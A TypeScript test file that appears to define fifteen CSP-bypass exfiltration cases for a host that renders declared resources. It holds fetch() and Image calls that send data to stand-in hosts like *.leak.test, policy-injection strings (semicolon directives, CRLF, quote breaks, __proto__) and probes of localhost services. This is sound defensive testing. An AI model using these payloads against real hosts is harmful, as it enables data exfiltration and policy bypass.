// Exfiltration by declared domains that are not domains: a resource declares what it needs, and a careless host copies that into its
// policy.
import type { Attack } from '../attack.ts';
import { leak, ofClass } from './define.ts';

const attack = ofClass('exfiltration', 'network');

const FETCH = `await fetch(${leak('declared')}, { mode: 'no-cors' }).catch(() => {}); await A.wait(500)`;
const IMAGE = `new Image().src = ${leak('declared-image')}; await A.wait(1000)`;

/** Requests a service of the user's own machine. */
const askMachine = (scheme: string, host: string): string => `
  const service = '${scheme}://${host}:' + A.localPort + '/' + A.token;
  new Image().src = service + '/image';
  await fetch(service + '/fetch', { mode: 'no-cors' }).catch(() => {});
  await A.wait(1000)`;

const declares = (id: string, title: string, csp: Record<string, unknown>, script = FETCH): Attack =>
  attack(id, `declares ${title}`, { ui: { csp }, script });

export const DECLARED: readonly Attack[] = [
  declares('d01', 'a domain with a directive behind it', { resourceDomains: ['https://ok.test; connect-src *'] }),
  declares('d02', 'the domain *', { connectDomains: ['*'] }),
  declares('d03', 'a scheme as a domain', { connectDomains: ['http:', 'https:', 'ws:'] }),
  declares('d04', 'two domains in one', {
    connectDomains: ['https://ok.test http://*.leak.test', 'https://ok.test,http://*.leak.test'],
  }),
  declares('d05', 'a domain with a line break', {
    connectDomains: ['https://ok.test\r\nX-Header: 1', 'https://ok.test\n; connect-src *'],
  }),
  declares('d06', 'a wildcard where a name belongs', {
    connectDomains: ['https://*', 'http://*:80', 'https://*.test', 'http://*.leak.test'],
  }),
  declares('d07', 'images from everywhere', { resourceDomains: ['*', 'http:', 'https://ok.test http:'] }, IMAGE),
  declares('d08', 'a domain that ends the allowlist’s quotes', {
    connectDomains: ['https://ok.test" "http://*.leak.test/*', 'https://ok.test") (response-origin'],
  }),
  declares('d09', 'domains in other shapes than lists', {
    connectDomains: { 0: '*', length: 1 },
    resourceDomains: '*',
    'connect-src': ['*'],
    ['__proto__']: { connectDomains: ['*'] },
  }),
  attack('d10', 'declares so many domains that the policy might be cut', {
    ui: {
      csp: {
        connectDomains: [...Array.from({ length: 500 }, (_, n) => `https://n${n}.ok.test`), '*'],
        resourceDomains: Array.from({ length: 500 }, (_, n) => `https://n${n}.ok.test`),
      },
    },
    script: FETCH,
    refused: true,
  }),
  declares(
    'd11',
    'a base, to be resolved against',
    { baseUriDomains: ['*', 'http:'] },
    `
      document.head.append(Object.assign(document.createElement('base'), { href: ${leak('')} }));
      document.body.append(Object.assign(document.createElement('img'), { src: 'relative.png' }));
      await A.wait(1000)`,
  ),
  attack('d12', 'asks for an origin of its own that is another site', {
    ui: { domain: 'http://{{name}}', csp: { connectDomains: ["'self'"] } },
    script: FETCH,
  }),
  attack('d13', 'declares a service of the user’s own machine, as a remote server', {
    remote: true,
    ui: {
      csp: { connectDomains: ['http://localhost:{{localPort}}'], resourceDomains: ['http://localhost:{{localPort}}'] },
    },
    script: askMachine('http', 'localhost'),
  }),
  attack('d14', 'declares it by its address and a WebSocket, as a remote server', {
    remote: true,
    ui: { csp: { connectDomains: ['http://127.0.0.1:{{localPort}}', 'ws://localhost:{{localPort}}'] } },
    script: `${askMachine('http', '127.0.0.1')}; new WebSocket('ws://localhost:' + A.localPort + '/' + A.token); await A.wait(700)`,
  }),
  attack('d15', 'shows a service of the user’s own machine as its page, as a remote server', {
    remote: true,
    external: true,
    refused: true,
    script: 'await A.wait(100)',
    breach: ({ network }) => network.some(({ detail }) => detail.includes('/view')),
  }),
];
